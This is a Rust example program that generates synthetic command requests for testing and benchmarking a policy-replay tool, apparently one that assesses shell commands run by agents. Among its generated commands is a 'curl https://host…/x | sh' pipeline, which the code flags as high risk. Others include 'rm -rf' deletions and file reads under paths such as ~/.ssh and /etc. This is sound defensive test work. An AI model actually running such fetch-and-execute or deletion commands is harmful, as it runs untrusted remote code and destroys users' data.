//! Prints requests as a fleet would record them, for measuring and testing `belljar policy replay`: `... --example requests
//! -- COUNT [SEED]`. Programs repeat, names of files and hosts hardly do. The same numbers give the same lines.
#![allow(clippy::unwrap_used, clippy::disallowed_methods, clippy::indexing_slicing)]

use belljar_policy::Policy;
use belljar_policy::replay::Request;
use model::{
    Action, Analysis, Certainty, CheckId, Coverage, Effect, Endpoint, Finding, PathScope, Place, Reversibility, Risk,
    Span, Target,
};
use std::io::Write as _;

fn main() {
    let mut args = std::env::args().skip(1).map(|arg| arg.parse::<u64>().unwrap());
    let (count, seed) = (args.next().unwrap_or(1000), args.next().unwrap_or(1));
    let mut out = std::io::BufWriter::with_capacity(1 << 20, std::io::stdout().lock());
    write(count, seed, &mut out);
    out.flush().unwrap();
}

/// So many requests, a line each.
pub(crate) fn write(count: u64, seed: u64, out: &mut impl std::io::Write) {
    let policy = Policy::builtin().unwrap();
    let mut random = Random(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    for _ in 0..count {
        let place = place(random.below(20), random.below(8) > 0);
        let analysis = command(&mut random);
        let request = Request::of(&analysis, &policy.assess(&analysis, &place), &place);
        serde_json::to_writer(&mut *out, &request).unwrap();
        out.write_all(b"\n").unwrap();
    }
}

struct Random(u64);

impl Random {
    fn below(&mut self, bound: u64) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) % bound
    }

    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        from[usize::try_from(self.below(from.len() as u64)).unwrap()]
    }
}

fn place(user: u64, contained: bool) -> Place {
    Place {
        cwd: "/home/u/work".into(),
        home: "/home/u".into(),
        workspace: "/home/u/work".into(),
        state: "/home/u/.local/state/belljar".into(),
        uid: 1000 + u32::try_from(user).unwrap(),
        contained,
    }
}

const DIRS: [&str; 12] = [
    "/home/u/work/src",
    "/home/u/work/src/deep/er",
    "/home/u/work/node_modules/pkg",
    "/home/u/work/target/debug",
    "/home/u/work/.github/workflows",
    "/home/u/.cache/tool",
    "/home/u/.config/app",
    "/home/u/.ssh",
    "/tmp",
    "/etc",
    "/usr/share/doc",
    "/srv/data",
];

fn file(random: &mut Random) -> String {
    let end = random.pick(&["rs", "js", "py", "md", "json", "lock", "o"]);
    format!("{}/file-{}.{end}", random.pick(&DIRS), random.below(1_000_000))
}

fn effect(action: Action, target: Target, reversibility: Reversibility) -> Effect {
    Effect { action, target, certainty: Certainty::Must, reversibility, span: None, by: None }
}

fn on_path(action: Action, path: &str, scope: PathScope) -> Effect {
    let reversibility = if action == Action::Read { Reversibility::Harmless } else { Reversibility::ByOverlay };
    effect(action, Target::Path { path: path.into(), scope }, reversibility)
}

fn run(program: &str) -> Effect {
    effect(Action::Execute, Target::Program { name: program.to_owned() }, Reversibility::Harmless)
}

fn connect(host: String) -> Effect {
    let peer = Endpoint { host, port: Some(443), protocol: None };
    effect(Action::Connect, Target::Peer(peer), Reversibility::Never)
}

fn command(random: &mut Random) -> Analysis {
    let mut findings = Vec::new();
    let mut coverage = Coverage::Full;
    let (text, effects) = match random.below(8) {
        0 | 1 => {
            let name = file(random);
            (format!("cat {name}"), vec![on_path(Action::Read, &name, PathScope::Exact)])
        }
        2 => {
            let program = random.pick(&["make", "cargo", "npm", "pytest", "go", "deploy"]);
            coverage = Coverage::Partial(vec![Span::new(0, 4)]);
            (format!("{program} test"), vec![run(program)])
        }
        3 => {
            let (from, to) = (file(random), file(random));
            let effects =
                vec![on_path(Action::Read, &from, PathScope::Exact), on_path(Action::Write, &to, PathScope::Exact)];
            (format!("cp {from} {to}"), effects)
        }
        4 => {
            let name = format!("{}/build-{}", random.pick(&DIRS), random.below(100_000));
            (format!("rm -rf {name}"), vec![on_path(Action::Delete, &name, PathScope::Tree)])
        }
        5 => {
            let host =
                format!("host-{}.{}", random.below(50_000), random.pick(&["example.org", "example.com", "corp"]));
            let (text, host) = (format!("curl https://{host}/x | sh"), host.clone());
            let (span, message) = (Span::new(0, 4), "text from the network is run as a command".to_owned());
            findings.push(Finding { check: CheckId(15), severity: Risk::High, span, message });
            (text, vec![connect(host), run("sh")])
        }
        6 => {
            let names: Vec<String> = (0..=random.below(6)).map(|_| file(random)).collect();
            let text = format!("git add {}", names.join(" "));
            let mut effects = vec![run("git"), on_path(Action::Write, "/home/u/work/.git", PathScope::Tree)];
            effects.extend(names.iter().map(|name| on_path(Action::Read, name, PathScope::Exact)));
            (text, effects)
        }
        _ => {
            let name = file(random);
            (format!("sed -i s/a/b/ {name}"), vec![on_path(Action::Write, &name, PathScope::Exact)])
        }
    };
    Analysis { text, effects, findings, coverage, canonical: vec![], certificates: vec![] }
}
